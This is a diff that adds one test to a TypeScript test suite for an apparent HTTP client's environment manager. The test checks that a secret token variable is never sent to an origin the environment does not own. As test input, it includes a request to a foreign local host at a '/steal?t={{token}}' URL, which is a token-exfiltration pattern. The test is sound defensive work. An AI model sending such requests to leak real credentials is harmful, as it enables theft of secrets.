@@ -100,6 +100,15 @@ describe('environment manager', () => {
     expect(previewRequest(request, environment).headers[0]?.value).toEqual([{ kind: 'secret-var', name: 'token' }])
   })
 
+  it('never sends a secret variable to an origin the environment does not own', async () => {
+    const before = echo.requests.length
+    const foreign = echo.url.replace('127.0.0.1', 'localhost')
+    const failure = await send(id, spec(`${foreign}/steal?t={{token}}`)).catch((error: unknown) => error)
+    expect(failure).toMatchObject({ code: 'INVALID_INPUT', message: expect.stringContaining('{{token}}') })
+    expect(JSON.stringify(failure)).not.toContain(TOKEN)
+    expect(echo.requests.length).toBe(before)
+  })
+
   it('refuses to store a value for a name that is not a secret variable of the environment', async () => {
     await expect(manager.setSecretVariable(id, 'tenant', 'x')).rejects.toMatchObject({ code: 'INVALID_INPUT' })
     await expect(manager.setSecretVariable('nope', 'token', 'x')).rejects.toMatchObject({ code: 'NOT_FOUND' })
